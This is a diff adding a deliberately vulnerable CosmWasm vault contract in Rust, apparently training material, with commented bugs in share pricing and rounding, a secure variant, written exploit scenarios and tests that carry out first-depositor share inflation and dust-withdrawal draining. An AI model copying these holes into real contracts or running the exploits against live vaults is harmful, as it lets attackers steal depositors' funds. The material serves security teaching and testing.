@@ -0,0 +1,559 @@
+/*
+ * VULNERABLE COSMWASM CONTRACT - DO NOT USE IN PRODUCTION
+ *
+ * Vault Share Inflation and Rounding Direction
+ *
+ * CosmWasm port of the ERC4626-style vault bugs in
+ * defi-protocols/VulnerableVault.sol. The vault prices shares from its
+ * live bank balance, mints no dead shares, accepts deposits that round to
+ * zero shares, and rounds withdrawals in the user's favour.
+ */
+
+use cosmwasm_schema::cw_serde;
+#[cfg(not(feature = "library"))]
+use cosmwasm_std::entry_point;
+use cosmwasm_std::{
+    to_json_binary, Addr, BankMsg, Binary, Coin, Decimal, Deps, DepsMut, Env, MessageInfo,
+    Response, StdError, StdResult, Uint128,
+};
+use cw_storage_plus::{Item, Map};
+
+#[cw_serde]
+pub struct Config {
+    pub denom: String,
+}
+
+pub const CONFIG: Item<Config> = Item::new("config");
+pub const TOTAL_SHARES: Item<Uint128> = Item::new("total_shares");
+pub const SHARES: Map<&Addr, Uint128> = Map::new("shares");
+
+#[cw_serde]
+pub struct InstantiateMsg {
+    pub denom: String,
+}
+
+#[cw_serde]
+pub enum ExecuteMsg {
+    /// Deposit the attached assets for shares
+    Deposit {},
+    /// Burn `shares` for the underlying assets
+    Redeem { shares: Uint128 },
+    /// Withdraw exactly `assets`, burning however many shares that costs
+    Withdraw { assets: Uint128 },
+}
+
+#[cw_serde]
+pub enum QueryMsg {
+    Shares { address: String },
+    TotalShares {},
+}
+
+#[cfg_attr(not(feature = "library"), entry_point)]
+pub fn instantiate(
+    deps: DepsMut,
+    _env: Env,
+    _info: MessageInfo,
+    msg: InstantiateMsg,
+) -> StdResult<Response> {
+    CONFIG.save(deps.storage, &Config { denom: msg.denom })?;
+    TOTAL_SHARES.save(deps.storage, &Uint128::zero())?;
+    Ok(Response::new().add_attribute("action", "instantiate"))
+}
+
+#[cfg_attr(not(feature = "library"), entry_point)]
+pub fn execute(deps: DepsMut, env: Env, info: MessageInfo, msg: ExecuteMsg) -> StdResult<Response> {
+    match msg {
+        ExecuteMsg::Deposit {} => deposit(deps, env, info),
+        ExecuteMsg::Redeem { shares } => redeem(deps, env, info, shares),
+        ExecuteMsg::Withdraw { assets } => withdraw(deps, env, info, assets),
+    }
+}
+
+// VULNERABILITY 1: Total assets read from the live bank balance
+// A plain BankMsg::Send to the vault ("donation") changes the share price
+// without minting any shares
+fn total_assets(deps: Deps, env: &Env, denom: &str) -> StdResult<Uint128> {
+    Ok(deps
+        .querier
+        .query_balance(&env.contract.address, denom)?
+        .amount)
+}
+
+pub fn deposit(deps: DepsMut, env: Env, info: MessageInfo) -> StdResult<Response> {
+    let config = CONFIG.load(deps.storage)?;
+    let assets = cw_utils::must_pay(&info, &config.denom)
+        .map_err(|err| StdError::generic_err(err.to_string()))?;
+
+    // The deposit is already part of the balance when execute runs
+    let assets_before = total_assets(deps.as_ref(), &env, &config.denom)?.checked_sub(assets)?;
+    let supply = TOTAL_SHARES.load(deps.storage)?;
+
+    // VULNERABILITY 2: No virtual shares / dead shares for the first deposit
+    // The first depositor can mint a single share and then donate to make
+    // that one share worth an arbitrary amount
+    let shares = if supply.is_zero() {
+        assets
+    } else {
+        // VULNERABILITY 3: Rounds down with no minimum-shares check
+        // Once one share is worth more than the deposit, the depositor
+        // receives ZERO shares and their assets accrue to existing holders
+        assets.multiply_ratio(supply, assets_before)
+    };
+
+    TOTAL_SHARES.save(deps.storage, &supply.checked_add(shares)?)?;
+    SHARES.update(deps.storage, &info.sender, |balance| -> StdResult<_> {
+        Ok(balance.unwrap_or_default().checked_add(shares)?)
+    })?;
+
+    Ok(Response::new()
+        .add_attribute("action", "deposit")
+        .add_attribute("assets", assets)
+        .add_attribute("shares", shares))
+}
+
+pub fn redeem(deps: DepsMut, env: Env, info: MessageInfo, shares: Uint128) -> StdResult<Response> {
+    let config = CONFIG.load(deps.storage)?;
+    let supply = TOTAL_SHARES.load(deps.storage)?;
+    let assets = shares.multiply_ratio(total_assets(deps.as_ref(), &env, &config.denom)?, supply);
+
+    burn(deps, &info.sender, shares, supply)?;
+
+    Ok(Response::new()
+        .add_message(BankMsg::Send {
+            to_address: info.sender.to_string(),
+            amount: vec![Coin::new(assets, config.denom)],
+        })
+        .add_attribute("action", "redeem")
+        .add_attribute("assets", assets))
+}
+
+pub fn withdraw(
+    deps: DepsMut,
+    env: Env,
+    info: MessageInfo,
+    assets: Uint128,
+) -> StdResult<Response> {
+    let config = CONFIG.load(deps.storage)?;
+    let supply = TOTAL_SHARES.load(deps.storage)?;
+    let share_price =
+        Decimal::checked_from_ratio(total_assets(deps.as_ref(), &env, &config.denom)?, supply)
+            .map_err(|err| StdError::generic_err(err.to_string()))?;
+
+    // VULNERABILITY 4: Shares to burn rounded DOWN
+    // Rounding must favour the vault: withdrawing less than one share's
+    // worth of assets burns zero shares, repeatable until the vault is empty
+    let shares = assets.div_floor(share_price);
+
+    burn(deps, &info.sender, shares, supply)?;
+
+    Ok(Response::new()
+        .add_message(BankMsg::Send {
+            to_address: info.sender.to_string(),
+            amount: vec![Coin::new(assets, config.denom)],
+        })
+        .add_attribute("action", "withdraw")
+        .add_attribute("shares", shares))
+}
+
+fn burn(deps: DepsMut, owner: &Addr, shares: Uint128, supply: Uint128) -> StdResult<()> {
+    SHARES.update(deps.storage, owner, |balance| -> StdResult<_> {
+        Ok(balance.unwrap_or_default().checked_sub(shares)?)
+    })?;
+    TOTAL_SHARES.save(deps.storage, &supply.checked_sub(shares)?)
+}
+
+#[cfg_attr(not(feature = "library"), entry_point)]
+pub fn query(deps: Deps, _env: Env, msg: QueryMsg) -> StdResult<Binary> {
+    match msg {
+        QueryMsg::Shares { address } => {
+            let address = deps.api.addr_validate(&address)?;
+            to_json_binary(&SHARES.may_load(deps.storage, &address)?.unwrap_or_default())
+        }
+        QueryMsg::TotalShares {} => to_json_binary(&TOTAL_SHARES.load(deps.storage)?),
+    }
+}
+
+/*
+ * SECURE VERSION (VIRTUAL SHARES, INTERNAL ACCOUNTING, VAULT-FAVOURING ROUNDING):
+ *
+ * OpenZeppelin-style offset: the vault behaves as if VIRTUAL_SHARES shares
+ * backed by VIRTUAL_ASSETS already existed, making donation attacks cost
+ * ~VIRTUAL_SHARES times the value they could steal. Assets are tracked in
+ * storage, so donations do not move the price at all, and every rounding
+ * error accrues to the vault.
+ */
+pub mod secure {
+    use super::{burn, ExecuteMsg, InstantiateMsg, CONFIG, SHARES, TOTAL_SHARES};
+    use cosmwasm_std::{
+        BankMsg, Coin, Decimal, DepsMut, Env, MessageInfo, Response, StdError, StdResult, Uint128,
+    };
+    use cw_storage_plus::Item;
+
+    pub use super::query;
+
+    pub const VIRTUAL_SHARES: Uint128 = Uint128::new(1_000_000);
+    pub const VIRTUAL_ASSETS: Uint128 = Uint128::new(1);
+
+    // SAFE: Assets tracked in storage; donations are ignored by pricing
+    pub const TOTAL_ASSETS: Item<Uint128> = Item::new("total_assets");
+
+    pub fn instantiate(
+        deps: DepsMut,
+        env: Env,
+        info: MessageInfo,
+        msg: InstantiateMsg,
+    ) -> StdResult<Response> {
+        TOTAL_ASSETS.save(deps.storage, &Uint128::zero())?;
+        super::instantiate(deps, env, info, msg)
+    }
+
+    pub fn execute(
+        deps: DepsMut,
+        _env: Env,
+        info: MessageInfo,
+        msg: ExecuteMsg,
+    ) -> StdResult<Response> {
+        match msg {
+            ExecuteMsg::Deposit {} => deposit(deps, info),
+            ExecuteMsg::Redeem { shares } => redeem(deps, info, shares),
+            ExecuteMsg::Withdraw { assets } => withdraw(deps, info, assets),
+        }
+    }
+
+    pub fn deposit(deps: DepsMut, info: MessageInfo) -> StdResult<Response> {
+        let config = CONFIG.load(deps.storage)?;
+        let assets = cw_utils::must_pay(&info, &config.denom)
+            .map_err(|err| StdError::generic_err(err.to_string()))?;
+        let total_assets = TOTAL_ASSETS.load(deps.storage)?;
+        let supply = TOTAL_SHARES.load(deps.storage)?;
+
+        // Deposits round DOWN (fewer shares for the user)
+        let shares = assets.multiply_ratio(supply + VIRTUAL_SHARES, total_assets + VIRTUAL_ASSETS);
+
+        // CHECK: Never accept assets for zero shares
+        if shares.is_zero() {
+            return Err(StdError::generic_err("Deposit too small"));
+        }
+
+        TOTAL_ASSETS.save(deps.storage, &total_assets.checked_add(assets)?)?;
+        TOTAL_SHARES.save(deps.storage, &supply.checked_add(shares)?)?;
+        SHARES.update(deps.storage, &info.sender, |balance| -> StdResult<_> {
+            Ok(balance.unwrap_or_default().checked_add(shares)?)
+        })?;
+
+        Ok(Response::new()
+            .add_attribute("action", "deposit")
+            .add_attribute("assets", assets)
+            .add_attribute("shares", shares))
+    }
+
+    pub fn redeem(mut deps: DepsMut, info: MessageInfo, shares: Uint128) -> StdResult<Response> {
+        let config = CONFIG.load(deps.storage)?;
+        let total_assets = TOTAL_ASSETS.load(deps.storage)?;
+        let supply = TOTAL_SHARES.load(deps.storage)?;
+
+        // Redemptions round DOWN (fewer assets paid out)
+        let assets = shares.multiply_ratio(total_assets + VIRTUAL_ASSETS, supply + VIRTUAL_SHARES);
+
+        // CHECK: Never burn shares for nothing (and never send empty coins)
+        if assets.is_zero() {
+            return Err(StdError::generic_err("Redeem too small"));
+        }
+
+        burn(deps.branch(), &info.sender, shares, supply)?;
+        TOTAL_ASSETS.save(deps.storage, &total_assets.checked_sub(assets)?)?;
+
+        Ok(Response::new()
+            .add_message(BankMsg::Send {
+                to_address: info.sender.to_string(),
+                amount: vec![Coin::new(assets, config.denom)],
+            })
+            .add_attribute("action", "redeem")
+            .add_attribute("assets", assets))
+    }
+
+    pub fn withdraw(mut deps: DepsMut, info: MessageInfo, assets: Uint128) -> StdResult<Response> {
+        let config = CONFIG.load(deps.storage)?;
+        let total_assets = TOTAL_ASSETS.load(deps.storage)?;
+        let supply = TOTAL_SHARES.load(deps.storage)?;
+
+        // SAFE: Withdrawals round UP (more shares burned), so every
+        // rounding error accrues to the vault, never to the caller
+        let shares_per_asset =
+            Decimal::checked_from_ratio(supply + VIRTUAL_SHARES, total_assets + VIRTUAL_ASSETS)
+                .map_err(|err| StdError::generic_err(err.to_string()))?;
+        let shares = assets.mul_ceil(shares_per_asset);
+
+        burn(deps.branch(), &info.sender, shares, supply)?;
+        TOTAL_ASSETS.save(deps.storage, &total_assets.checked_sub(assets)?)?;
+
+        Ok(Response::new()
+            .add_message(BankMsg::Send {
+                to_address: info.sender.to_string(),
+                amount: vec![Coin::new(assets, config.denom)],
+            })
+            .add_attribute("action", "withdraw")
+            .add_attribute("shares", shares))
+    }
+}
+
+/*
+ * EXPLOIT SCENARIOS:
+ *
+ * Share inflation (first depositor):
+ * 1. Attacker deposits 1 uatom into the empty vault and receives 1 share
+ * 2. Attacker donates 1,000,000 uatom with a plain BankMsg::Send
+ * 3. One share is now backed by 1,000,001 uatom
+ * 4. Victim deposits 999,999 uatom: 999,999 * 1 / 1,000,001 rounds to 0 shares
+ * 5. Attacker redeems 1 share for all 2,000,000 uatom, netting the victim's deposit
+ *
+ * Rounding direction:
+ * 1. Vault holds 3,000 uatom against 1,000 shares (share price 3.0)
+ * 2. Attacker calls Withdraw { assets: 2 }: 2 / 3.0 rounds down to 0 shares
+ * 3. Attacker receives 2 uatom and burns nothing
+ * 4. Repeat until the vault is drained
+ */
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use cosmwasm_std::{coins, Empty};
+    use cw_multi_test::{App, AppBuilder, Contract, ContractWrapper, Executor};
+
+    const ATOM: &str = "uatom";
+
+    fn vault_contract() -> Box<dyn Contract<Empty>> {
+        Box::new(ContractWrapper::new(execute, instantiate, query))
+    }
+
+    fn secure_vault_contract() -> Box<dyn Contract<Empty>> {
+        Box::new(ContractWrapper::new(
+            secure::execute,
+            secure::instantiate,
+            secure::query,
+        ))
+    }
+
+    struct Setup {
+        app: App,
+        attacker: Addr,
+        victim: Addr,
+        vault: Addr,
+    }
+
+    fn setup() -> Setup {
+        setup_with(vault_contract())
+    }
+
+    fn setup_with(contract: Box<dyn Contract<Empty>>) -> Setup {
+        let mut app = AppBuilder::new().build(|_, _, _| {});
+        let owner = app.api().addr_make("owner");
+        let attacker = app.api().addr_make("attacker");
+        let victim = app.api().addr_make("victim");
+
+        app.init_modules(|router, _, storage| {
+            router
+                .bank
+                .init_balance(storage, &attacker, coins(1_000_001, ATOM))
+                .unwrap();
+            router
+                .bank
+                .init_balance(storage, &victim, coins(999_999, ATOM))
+                .unwrap();
+        });
+
+        let code = app.store_code(contract);
+        let vault = app
+            .instantiate_contract(
+                code,
+                owner,
+                &InstantiateMsg {
+                    denom: ATOM.to_string(),
+                },
+                &[],
+                "vault",
+                None,
+            )
+            .unwrap();
+
+        Setup {
+            app,
+            attacker,
+            victim,
+            vault,
+        }
+    }
+
+    fn shares(app: &App, vault: &Addr, address: &Addr) -> Uint128 {
+        app.wrap()
+            .query_wasm_smart(
+                vault,
+                &QueryMsg::Shares {
+                    address: address.to_string(),
+                },
+            )
+            .unwrap()
+    }
+
+    fn balance(app: &App, address: &Addr) -> u128 {
+        app.wrap()
+            .query_balance(address, ATOM)
+            .unwrap()
+            .amount
+            .u128()
+    }
+
+    #[test]
+    fn exploit_first_depositor_share_inflation() {
+        let Setup {
+            mut app,
+            attacker,
+            victim,
+            vault,
+        } = setup();
+
+        // 1. Mint a single share
+        app.execute_contract(
+            attacker.clone(),
+            vault.clone(),
+            &ExecuteMsg::Deposit {},
+            &coins(1, ATOM),
+        )
+        .unwrap();
+        assert_eq!(shares(&app, &vault, &attacker), Uint128::one());
+
+        // 2. Donate directly, bypassing deposit()
+        app.send_tokens(attacker.clone(), vault.clone(), &coins(1_000_000, ATOM))
+            .unwrap();
+
+        // 3. Victim's deposit rounds down to zero shares - and still succeeds
+        app.execute_contract(
+            victim.clone(),
+            vault.clone(),
+            &ExecuteMsg::Deposit {},
+            &coins(999_999, ATOM),
+        )
+        .unwrap();
+        assert_eq!(shares(&app, &vault, &victim), Uint128::zero());
+        assert_eq!(balance(&app, &victim), 0);
+
+        // 4. The attacker's single share now claims the whole vault
+        app.execute_contract(
+            attacker.clone(),
+            vault.clone(),
+            &ExecuteMsg::Redeem {
+                shares: Uint128::one(),
+            },
+            &[],
+        )
+        .unwrap();
+
+        assert_eq!(balance(&app, &attacker), 2_000_000);
+        assert_eq!(balance(&app, &vault), 0);
+    }
+
+    #[test]
+    fn exploit_withdraw_rounds_in_callers_favour() {
+        let Setup {
+            mut app,
+            attacker,
+            vault,
+            ..
+        } = setup();
+
+        app.execute_contract(
+            attacker.clone(),
+            vault.clone(),
+            &ExecuteMsg::Deposit {},
+            &coins(1_000, ATOM),
+        )
+        .unwrap();
+        // Yield (or a donation) lifts the share price to 3.0
+        app.send_tokens(attacker.clone(), vault.clone(), &coins(2_000, ATOM))
+            .unwrap();
+
+        let attacker_before = balance(&app, &attacker);
+
+        // Each withdrawal of 2 uatom costs 2 / 3.0 = 0.67 shares, floored to 0
+        for _ in 0..10 {
+            app.execute_contract(
+                attacker.clone(),
+                vault.clone(),
+                &ExecuteMsg::Withdraw {
+                    assets: Uint128::new(2),
+                },
+                &[],
+            )
+            .unwrap();
+        }
+
+        // 20 uatom out, no shares burned; fair accounting burns 7 (20 / 3.0 rounded up)
+        assert_eq!(shares(&app, &vault, &attacker), Uint128::new(1_000));
+        assert_eq!(balance(&app, &attacker), attacker_before + 20);
+
+        let total: Uint128 = app
+            .wrap()
+            .query_wasm_smart(&vault, &QueryMsg::TotalShares {})
+            .unwrap();
+        assert_eq!(total, Uint128::new(1_000));
+        assert_eq!(balance(&app, &vault), 2_980);
+    }
+
+    #[test]
+    fn secure_vault_ignores_donations() {
+        let Setup {
+            mut app,
+            attacker,
+            victim,
+            vault,
+        } = setup_with(secure_vault_contract());
+
+        app.execute_contract(
+            attacker.clone(),
+            vault.clone(),
+            &ExecuteMsg::Deposit {},
+            &coins(1, ATOM),
+        )
+        .unwrap();
+        app.send_tokens(attacker.clone(), vault.clone(), &coins(1_000_000, ATOM))
+            .unwrap();
+
+        // The donation does not move the price: the victim still gets
+        // (almost) as many shares per uatom as the attacker did
+        app.execute_contract(
+            victim.clone(),
+            vault.clone(),
+            &ExecuteMsg::Deposit {},
+            &coins(999_999, ATOM),
+        )
+        .unwrap();
+        let victim_shares = shares(&app, &vault, &victim);
+        assert!(victim_shares >= Uint128::new(999_999 * 999_999));
+
+        // Redeeming everything returns the attacker's 1 uatom; the
+        // 1,000,000 uatom donation is simply lost
+        let attacker_shares = shares(&app, &vault, &attacker);
+        app.execute_contract(
+            attacker.clone(),
+            vault.clone(),
+            &ExecuteMsg::Redeem {
+                shares: attacker_shares,
+            },
+            &[],
+        )
+        .unwrap();
+        assert_eq!(balance(&app, &attacker), 1);
+
+        // Dust withdrawals burn at least one share each
+        app.execute_contract(
+            victim.clone(),
+            vault.clone(),
+            &ExecuteMsg::Withdraw {
+                assets: Uint128::one(),
+            },
+            &[],
+        )
+        .unwrap();
+        assert!(shares(&app, &vault, &victim) < victim_shares);
+    }
+}